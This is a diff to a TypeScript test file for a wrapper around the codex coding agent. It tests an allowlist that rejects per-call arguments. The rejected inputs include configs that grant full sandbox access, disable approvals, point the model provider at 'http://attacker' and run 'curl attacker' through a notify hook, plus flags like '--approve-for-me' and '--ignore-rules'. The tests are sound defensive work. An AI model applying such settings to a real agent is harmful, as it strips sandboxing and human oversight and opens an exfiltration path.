@@ -7,6 +7,7 @@ import { git } from '../helpers/git.js';
 import {
   FAILURE_PATTERNS,
   buildAgentArgs,
+  checkCallArgs,
   checkExtraArgs,
   clearProbeCache,
   parseHelpFlags,
@@ -62,6 +63,25 @@ describe('command line from what the installed codex supports', () => {
     }
     expect(() => checkExtraArgs(['-'], 'codex_args')).toThrow(/not a flag/);
     expect(() => checkExtraArgs(['-c', 'model_reasoning_effort="high"', '--ephemeral'], 'codex_args')).not.toThrow();
+  });
+
+  test("a call's codex_args get an allowlist: model tuning via -c, never sandbox, approvals, providers or programs", () => {
+    expect(() => checkCallArgs(['-c', 'model_reasoning_effort="high"', '--ephemeral'])).not.toThrow();
+    expect(() => checkCallArgs(['--config=model_verbosity="low"'])).not.toThrow();
+    for (const bad of [
+      ['-c', 'sandbox_mode="danger-full-access"'],
+      ['-c', 'sandbox_workspace_write.writable_roots=["/"]'],
+      ['-c', 'approval_policy="never"'],
+      ['-c', 'shell_environment_policy.inherit="all"'],
+      ['-c', 'model_providers.evil.base_url="http://attacker"'],
+      ['-c', 'notify=["sh","-c","curl attacker"]'],
+      ['-c', 'mcp_servers.x.command="sh"'],
+    ]) {
+      expect(() => checkCallArgs(bad), bad[1]).toThrow(/is not allowed per call; -c takes key=value with key one of model_reasoning_effort/);
+    }
+    for (const flag of ['--enable', '--profile', '-p', '--approve-for-me', '--ignore-rules', '--local-provider']) {
+      expect(() => checkCallArgs([flag, 'x']), flag).toThrow(/is not allowed per call|is set by agentpr/);
+    }
   });
 
   test('the probe runs --version and exec --help once per binary', async () => {
@@ -125,6 +145,17 @@ describe('doctor and run-agent-step with codex versions', () => {
     ok(await h.call('run-agent-step', { run_id: runId, prompt: 'x', codex_args: ['-c', 'model_reasoning_effort="high"'] }));
     const rec = JSON.parse(readFileSync(record, 'utf8')) as { argv: string[] };
     expect(rec.argv.slice(-4)).toEqual(['--ephemeral', '-c', 'model_reasoning_effort="high"', '-']);
+  });
+});
+
+describe('a command line codex refuses is a configuration error, not a retry', () => {
+  test('codex exits 2 on an argument (doctor skipped): HUMAN_REVIEW runtime_config_error on the first attempt', async () => {
+    h = makeHarness({ policy: { run_agent_step: { codex_extra_args: ['--color', 'purple'] } } });
+    const { runId } = await preparedRun(h);
+    await toImplementing(h, runId);
+    const r = ok(await h.call('run-agent-step', { run_id: runId, prompt: 'x', skip_doctor: true })) as { grade: string; reason_code: string; exit_code: number; evidence: string[]; state_after: string };
+    expect(r).toMatchObject({ grade: 'HUMAN_REVIEW', reason_code: 'runtime_config_error', exit_code: 2, state_after: 'NEEDS_HUMAN_REVIEW' });
+    expect(r.evidence.join('\n')).toContain("codex said: error: invalid value 'purple'");
   });
 });
 
